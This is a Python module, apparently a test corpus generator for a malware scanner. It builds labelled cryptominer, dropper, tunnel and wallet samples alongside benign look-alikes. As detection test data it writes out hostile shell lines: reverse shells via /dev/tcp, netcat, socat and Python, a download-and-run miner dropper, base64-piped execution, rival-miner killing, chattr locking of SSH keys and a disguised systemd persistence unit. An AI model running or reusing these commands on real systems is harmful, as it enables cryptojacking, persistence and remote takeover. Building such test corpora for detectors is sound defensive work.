"""Test corpus generated at run time: malicious-looking samples and benign look-alikes.

Nothing here is a real miner, wallet or pool: binaries are a bare ELF header followed by
random filler and the strings a rule looks for; wallet addresses are encoded from
os.urandom bytes with valid checksums (keys nobody holds); hosts are 127.0.0.1 or
reserved names (.invalid, .test, example.com).
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import struct
from dataclasses import dataclass
from pathlib import Path

from sentinel.rules.keccak import keccak256
from sentinel.rules.wallets import B58, BECH32_CHARSET

POOL = "127.0.0.1:3333"
STRATUM = "stratum+tcp://" + POOL


# --- wallet encoders (the tests' own, independent of sentinel.rules.wallets' decoders) ----------


def b58encode(raw: bytes) -> str:
    value = int.from_bytes(raw, "big")
    out = ""
    while value:
        value, digit = divmod(value, 58)
        out = B58[digit] + out
    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + out


def monero_b58encode(raw: bytes) -> str:
    sizes = {1: 2, 2: 3, 3: 5, 4: 6, 5: 7, 6: 9, 7: 10, 8: 11}
    out = []
    for off in range(0, len(raw), 8):
        block = raw[off : off + 8]
        value, chars = int.from_bytes(block, "big"), ""
        for _ in range(sizes[len(block)]):
            value, digit = divmod(value, 58)
            chars = B58[digit] + chars
        out.append(chars)
    return "".join(out)


def monero_address(kind: str = "standard") -> str:
    """A random mainnet Monero address: standard (4...), subaddress (8...) or integrated."""
    prefix, extra = {"standard": (0x12, 0), "subaddress": (0x2A, 0), "integrated": (0x13, 8)}[kind]
    body = bytes([prefix]) + os.urandom(64 + extra)
    return monero_b58encode(body + keccak256(body)[:4])


def btc_legacy_address(p2sh: bool = False) -> str:
    body = bytes([0x05 if p2sh else 0x00]) + os.urandom(20)
    check = hashlib.sha256(hashlib.sha256(body).digest()).digest()[:4]
    return b58encode(body + check)


def _polymod(values: list[int]) -> int:
    gen = (0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3)
    chk = 1
    for v in values:
        top = chk >> 25
        chk = (chk & 0x1FFFFFF) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if (top >> i) & 1 else 0
    return chk


def bech32_address(version: int = 0, length: int = 20) -> str:
    """A random segwit address; bech32 for version 0, bech32m for later versions."""
    program = os.urandom(length)
    acc, bits, words = 0, 0, [version]
    for byte in program:
        acc = (acc << 8) | byte
        bits += 8
        while bits >= 5:
            bits -= 5
            words.append((acc >> bits) & 31)
    if bits:
        words.append((acc << (5 - bits)) & 31)
    hrp = [ord(c) >> 5 for c in "bc"] + [0] + [ord(c) & 31 for c in "bc"]
    const = 1 if version == 0 else 0x2BC830A3
    pm = _polymod(hrp + words + [0] * 6) ^ const
    check = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return "bc1" + "".join(BECH32_CHARSET[w] for w in words + check)


def eth_address() -> str:
    """A random EIP-55 checksummed address with at least one letter of each case."""
    while True:
        hexpart = os.urandom(20).hex()
        digest = keccak256(hexpart.encode()).hex()
        out = "".join(
            c.upper() if c.isalpha() and int(d, 16) >= 8 else c
            for c, d in zip(hexpart, digest[:40], strict=True)
        )
        if out.lower() != out and out.upper() != out:
            return "0x" + out


def corrupt(address: str) -> str:
    """The address with one character changed so that its checksum fails."""
    i = len(address) // 2
    if address.startswith("0x"):  # flip the case of one letter
        i = next(j for j in range(2, len(address)) if address[j].isalpha())
        return address[:i] + address[i].swapcase() + address[i + 1 :]
    alphabet = BECH32_CHARSET if address.lower().startswith("bc1") else B58
    c = address[i].lower() if alphabet is BECH32_CHARSET else address[i]
    return address[:i] + alphabet[(alphabet.index(c) + 1) % len(alphabet)] + address[i + 1 :]


def random_base58(first: str, length: int) -> str:
    return first + "".join(B58[b % 58] for b in os.urandom(length - 1))


# --- fake binaries ---------------------------------------------------------------------


def fake_elf(*strings: str, filler: int = 48 * 1024) -> bytes:
    """An ELF64 header, random filler, and the given strings NUL-separated inside it."""
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    body = bytearray(os.urandom(filler))
    step = filler // (len(strings) + 1)
    for n, s in enumerate(strings, 1):
        blob = b"\0" + s.encode() + b"\0"
        body[n * step : n * step + len(blob)] = blob
    return header + bytes(body)


# --- samples ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    category: str | None  # expected category; None for a benign look-alike


def _text(name: str, text: str, category: str | None) -> Sample:
    return Sample(name, text.encode(), category)


def _miner_binaries() -> list[Sample]:
    gpu_words = ("ethash", "kawpow", STRATUM, "eth_submitWork")
    samples = [
        Sample(
            "bin/xmrig",
            fake_elf(
                "XMRig/6.21.0 (Linux x86_64)",
                " xmrig ",
                "--donate-level=N",
                "--randomx-1gb-pages",
                "--cpu-max-threads-hint",
                "rx/0",
                "cryptonight",
            ),
            "miner",
        ),
        Sample(
            "bin/kworker-stripped-fork",
            fake_elf(
                "--donate-level",
                "--cpu-priority",
                "--randomx-mode",
                "--tls-fingerprint",
                "--nicehash",
                "--rig-id",
            ),
            "miner",
        ),
        Sample(
            "bin/xmr-stak-rx",
            fake_elf("xmr-stak-rx 1.0.5", "pool_address", "wallet_address", "use_nicehash"),
            "miner",
        ),
        Sample(
            "bin/cpuminer-opt",
            fake_elf(
                "cpuminer-opt 3.23.4",
                "mining.subscribe",
                "mining.authorize",
                "mining.submit",
                "yespower",
            ),
            "miner",
        ),
        Sample(
            "bin/minerd",
            fake_elf("minerd", "pooler/cpuminer", "mining.notify", "mining.subscribe", "scrypt"),
            "miner",
        ),
    ]
    for brand in (
        "T-Rex",
        "lolMiner",
        "NBMiner",
        "PhoenixMiner",
        "GMiner",
        "TeamRedMiner",
        "ethminer",
        "nanominer",
        "SRBMiner-MULTI",
    ):
        samples.append(
            Sample(f"bin/gpu-{brand.lower()}", fake_elf(f"{brand} v1.2.3", *gpu_words), "miner")
        )
    tunnels = {
        "frpc": ("github.com/fatedier/frp/client", "frpc.ini"),
        "chisel": ("github.com/jpillora/chisel/client",),
        "ngrok": ("golang.ngrok.com/ngrok", "authtoken"),
        "cloudflared": ("github.com/cloudflare/cloudflared/tunnel",),
        "gost": ("github.com/ginuerzh/gost",),
        "bore": ("bore_cli::client",),
    }
    for name, strings in tunnels.items():
        samples.append(Sample(f"bin/{name}", fake_elf(*strings), "tunnel"))
    return samples


def _xmrig_config(wallet: str) -> str:
    return json.dumps(
        {
            "autosave": True,
            "background": False,
            "donate-level": 1,
            "donate-over-proxy": 1,
            "randomx": {"init": -1, "mode": "auto", "1gb-pages": True, "rdmsr": True},
            "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 100},
            "opencl": {"enabled": False},
            "cuda": {"enabled": False},
            "pools": [
                {
                    "algo": None,
                    "coin": "monero",
                    "url": POOL,
                    "user": wallet,
                    "pass": "x",
                    "rig-id": "gpu-box-7",
                    "nicehash": False,
                    "keepalive": True,
                    "tls": False,
                }
            ],
        },
        indent=4,
    )


def _configs() -> list[Sample]:
    xmr = monero_address()
    stak = (
        '"pool_list" : [\n  {"pool_address" : "127.0.0.1:3333", "wallet_address" : '
        f'"{monero_address()}", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false,'
        ' "use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },\n],\n'
        '"currency" : "monero",\n'
    )
    trex = json.dumps(
        {
            "algo": "kawpow",
            "pools": [{"url": STRATUM, "user": "RQsomeuser", "pass": "x", "worker": "rig0"}],
            "api-bind-http": "127.0.0.1:4067",
            "gpu-report-interval": 30,
        },
        indent=2,
    )
    nano = (
        "; nanominer config\n[Ethash]\nwallet = "
        + eth_address()
        + "\ncoin = ETC\nrigName = rig1\npool1 = pool.example.com:1010\n"
    )
    phoenix = "-pool 127.0.0.1:3333\n-wal " + eth_address() + "\n-worker rig1\n-coin etc\n"
    epools = f"POOL: 127.0.0.1:3333, WALLET: {eth_address()}, PSW: x, WORKER: rig1\n"
    return [
        _text("configs/config.json", _xmrig_config(xmr), "miner"),
        _text("configs/pools.txt", stak, "miner"),
        _text("configs/trex.json", trex, "miner"),
        _text("configs/config.ini", nano, "miner"),
        _text("configs/config.txt", phoenix, "miner"),
        _text("configs/epools.txt", epools, "miner"),
    ]


def _droppers() -> list[Sample]:
    launch = f"./xmrig -o {STRATUM} -u x -p x"
    b64 = base64.b64encode(launch.encode()).decode()
    samples = [
        _text(
            "drop/install.sh",
            "#!/bin/sh\ncd /tmp\ncurl -fsSL http://downloads.example.com/xmrig-6.21.0.tar.gz"
            " -o x.tgz\ntar xzf x.tgz\nchmod +x xmrig\nnohup ./xmrig -o pool.example.com:3333 &\n",
            "miner",
        ),
        _text("drop/b64.sh", f"#!/bin/bash\necho {b64} | base64 -d | bash\n", "miner"),
        _text(
            "drop/donate.sh",
            "#!/bin/sh\n./sys-update --donate-level=1 -o 127.0.0.1:3333\n",
            "miner",
        ),
        _text("drop/bg.sh", "#!/bin/sh\n/tmp/.x/xmrig -o 127.0.0.1:3333 -u worker -B\n", "miner"),
        _text(
            "drop/rivals.sh",
            "#!/bin/sh\npkill -f kinsing\npkill -f kdevtmpfsi\nkillall -9 xmrig\n"
            "ps aux | grep -v grep | grep 'minerd' | awk '{print $2}' | xargs kill -9\n",
            "miner",
        ),
        _text(
            "drop/lock.sh",
            "#!/bin/sh\nchattr +i /tmp/.x/sysupdate\nchattr +ia /root/.ssh/authorized_keys\n",
            "evasion",
        ),
        _text(
            "drop/msr.sh",
            "#!/bin/sh\nmodprobe msr allow_writes=on\nwrmsr -a 0x1a4 0xf\n"
            "sysctl -w vm.nr_hugepages=1280\n",
            "miner",
        ),
        _text(
            "drop/sysupdate.service",
            "[Unit]\nDescription=System update\n[Service]\n"
            "ExecStart=/opt/.cache/xmrig --config=/opt/.cache/config.json\nRestart=always\n",
            "persistence",
        ),
        _text(
            "drop/gpu.sh", f"#!/bin/sh\n./t-rex -a kawpow -o {STRATUM} -u RVNuser -w rig\n", "miner"
        ),
        _text(
            "drop/lol.sh",
            "#!/bin/sh\n./lolMiner --algo ETHASH --pool 127.0.0.1:3333 --user 0xabc.rig\n",
            "miner",
        ),
    ]
    for scheme in ("stratum+ssl", "stratum+tls", "stratum+udp", "stratum2+tcp"):
        samples.append(
            _text(f"drop/{scheme.replace('+', '_')}.sh", f"./run -o {scheme}://{POOL}\n", "miner")
        )
    return samples


def _tunnels() -> list[Sample]:
    rows = {
        "frpc.ini": "[common]\nserver_addr = 198.51.100.7\nserver_port = 7000\n\n[ssh]\n"
        "type = tcp\nlocal_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 6000\n",
        "frpc.toml": 'serverAddr = "tunnel.example.com"\nserverPort = 7000\n\n[[proxies]]\n'
        'name = "ssh"\ntype = "tcp"\nlocalIP = "127.0.0.1"\nlocalPort = 22\nremotePort = 6000\n',
        "chisel.sh": "chisel client https://tunnel.example.com:443 R:2222:127.0.0.1:22\n",
        "chisel-server.sh": "chisel server --port 8443 --reverse\n",
        "ngrok.yml": 'version: "2"\nauthtoken: 2aBcDeFgHiJkLmNoPqRsTuVwXyZ_0123\ntunnels:\n'
        "  ssh:\n    proto: tcp\n    addr: 22\n",
        "ngrok.sh": "nohup ngrok tcp 22 --log stdout &\n",
        "cloudflared.yml": "tunnel: 6ff42ae2-765d-4adf-8112-31c55c1551ef\n"
        "credentials-file: /root/.cloudflared/6ff42ae2.json\ningress:\n"
        "  - service: ssh://localhost:22\n",
        "cloudflared.sh": "cloudflared tunnel --url http://127.0.0.1:8888\n",
        "gost.sh": "gost -L=tcp://:2222/127.0.0.1:22 -F=relay+tls://tunnel.example.com:443\n",
        "bore.sh": "bore local 22 --to tunnel.example.com\n",
        "sshuttle.sh": "sshuttle --dns -r user@jump.example.com 10.0.0.0/8\n",
        "socat.sh": "socat TCP:127.0.0.1:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane\n",
        "devtcp.sh": "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n",
        "exec.sh": "exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | while read l; do $l; done\n",
        "nc.sh": "nc 127.0.0.1 4444 -e /bin/sh\n",
        "rev.py": "import os, pty, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\n"
        "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n",
    }
    return [_text(f"tunnels/{name}", text, "tunnel") for name, text in rows.items()]


def _wallets() -> list[Sample]:
    rows = {
        "xmr.env": f"WALLET={monero_address()}\n",
        "xmr-sub.txt": f"--user {monero_address('subaddress')}\n",
        "xmr-int.json": json.dumps({"user": monero_address("integrated")}),
        "btc.txt": f"btc address: {btc_legacy_address()}\n",
        "btc-p2sh.txt": f"wallet = {btc_legacy_address(p2sh=True)}\n",
        "bech32.txt": f"payout {bech32_address(0, 20)}\n",
        "bech32m.txt": f"payout {bech32_address(1, 32)}\n",
        "eth.txt": f"payout {eth_address()}\n",
    }
    return [_text(f"wallets/{name}", text, "wallet") for name, text in rows.items()]


def _benign() -> list[Sample]:
    words = (
        "pool", "pools", "url", "user", "pass", "donate", "level", "cpu", "cuda", "opencl",
        "algo", "coin", "miner", "mining", "stratum", "wallet", "monero", "bitcoin", "hash",
        "rig", "keepalive", "tls", "nicehash", "randomx",
    )  # fmt: skip
    vocab = {w: i for i, w in enumerate(words)}
    tokenizer = json.dumps(
        {
            "version": "1.0",
            "model": {"type": "BPE", "vocab": vocab, "merges": ["p o", "po ol", "m in"]},
            "added_tokens": [{"id": 0, "content": "<pad>"}],
        }
    )
    sha_list = "".join(f"{os.urandom(32).hex()}  shard-{i:05d}.tar\n" for i in range(200))
    git_log = "".join(
        f"commit {os.urandom(20).hex()}\nAuthor: Dev <dev@example.com>\n"
        f"Date:   Mon Jan 5 10:00:00 2026 +0000\n\n"
        f"    Fix thread pool sizing in the data miner ({i})\n\n"
        for i in range(50)
    )
    conda = (
        "name: train\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n"
        "  - pytorch\n  - pip:\n    - pool-manager==1.0\n    - multiprocess\n"
    )
    k8s = (
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: trainer\nspec:\n  nodeSelector:\n"
        "    cloud.google.com/gke-nodepool: gpu-pool\n  containers:\n  - name: trainer\n"
        "    image: registry.example.com/train:1\n    args: ['--pool-size=8', '--workers=4',"
        " '--user=trainer', '--algo=adamw']\n    resources:\n      limits:\n"
        "        nvidia.com/gpu: 1\n"
    )
    readme = (
        "# Data mining toolkit\n\nAssociation-rule mining and frequent-pattern miners for "
        "tabular data. Uses a process pool; see `miner.fit()`.\n\nWe also study Bitcoin and "
        "Monero transaction graphs; addresses in the dataset are anonymised, e.g.\n"
        f"address: {corrupt(btc_legacy_address())}\nwallet: {corrupt(monero_address())}\n"
        f"user {random_base58('4', 95)}\n"
    )
    lookalikes = (
        f"wallet={corrupt(monero_address())}\n--user {corrupt(monero_address('subaddress'))}\n"
        f"btc: {corrupt(btc_legacy_address())}\nbtc: {random_base58('1', 34)}\n"
        f"{corrupt(bech32_address())}\n{corrupt(eth_address())}\n"
        f"0x{os.urandom(20).hex()}\n"  # all lowercase: no checksum, not reported
    )
    installer = (
        "#!/bin/sh\nset -e\ncurl -fsSL https://example.com/install.sh | sh\nchmod +x ./train\n"
        "nohup ./train --workers 8 &\nchattr +i /etc/resolv.conf\n"
        "echo 1024 > /proc/sys/vm/nr_hugepages\nssh -L 8888:localhost:8888 gpu.example.com\n"
    )
    unit = "[Service]\nExecStart=/usr/bin/python3 /opt/train/serve.py --pool-size 4\n"
    return [
        _text("benign/tokenizer.json", tokenizer, None),
        _text("benign/SHA256SUMS", sha_list, None),
        _text("benign/git.log", git_log, None),
        _text("benign/environment.yml", conda, None),
        _text("benign/pod.yaml", k8s, None),
        _text("benign/README.md", readme, None),
        _text("benign/lookalikes.txt", lookalikes, None),
        _text("benign/install.sh", installer, None),
        _text("benign/train.service", unit, None),
        Sample("benign/libdatamining.so", fake_elf("DataMiner", "pool", "mining", "hash"), None),
    ]


def samples() -> list[Sample]:
    """Every sample, freshly generated (new random wallets on each call)."""
    return [*_miner_binaries(), *_configs(), *_droppers(), *_tunnels(), *_wallets(), *_benign()]


def write(root: Path) -> dict[Path, Sample]:
    """Write the corpus under root; returns path -> sample."""
    out = {}
    for s in samples():
        path = root / s.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(s.data)
        out[path] = s
    return out
